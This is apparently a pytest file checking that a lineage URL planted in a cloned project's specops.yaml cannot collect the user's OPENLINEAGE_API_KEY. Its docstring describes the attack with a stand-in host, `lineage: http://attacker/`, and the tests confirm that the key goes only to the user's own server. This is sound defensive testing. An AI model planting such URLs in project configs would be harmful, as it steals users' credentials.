"""Attack through a cloned project's specops.yaml: `lineage: http://attacker/` would
receive the user's OPENLINEAGE_API_KEY as a bearer token on every `specops run`. A URL
from specops.yaml gets the key only on the origin of the user's own OPENLINEAGE_URL; one
given with `--lineage` is the user's choice and gets it. A real HTTP server (http.server
in a thread) records what each transport sends."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from specops.runtime.engine.lineage_events import open_transport


class _Recorder(BaseHTTPRequestHandler):
    seen: list[dict[str, str]] = []

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.seen.append(dict(self.headers))
        self.send_response(201)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def server() -> Iterator[tuple[str, list[dict[str, str]]]]:
    seen: list[dict[str, str]] = []
    handler = type("H", (_Recorder,), {"seen": seen})
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}", seen
    finally:
        httpd.shutdown()
        httpd.server_close()


def _send(url: str, root: Path, from_config: bool) -> None:
    t = open_transport(url, root, from_config=from_config)
    try:
        t.send({"eventType": "START"})
    finally:
        t.close()


def test_a_url_from_specops_yaml_never_gets_the_users_key(
        server: tuple[str, list[dict[str, str]]], tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    url, seen = server
    monkeypatch.setenv("OPENLINEAGE_API_KEY", "s3cret")
    monkeypatch.delenv("OPENLINEAGE_URL", raising=False)
    _send(url, tmp_path, from_config=True)                    # the cloned project's URL
    monkeypatch.setenv("OPENLINEAGE_URL", "http://127.0.0.1:1")   # the user's: elsewhere
    _send(url, tmp_path, from_config=True)
    assert len(seen) == 2
    assert all("s3cret" not in " ".join(h.values()) for h in seen), seen
    monkeypatch.setenv("OPENLINEAGE_URL", url + "/")              # the user's own server
    _send(url + "/api/v1/lineage", tmp_path, from_config=True)
    _send(url, tmp_path, from_config=False)                   # `--lineage URL`
    assert [h.get("Authorization") for h in seen[2:]] == ["Bearer s3cret"] * 2
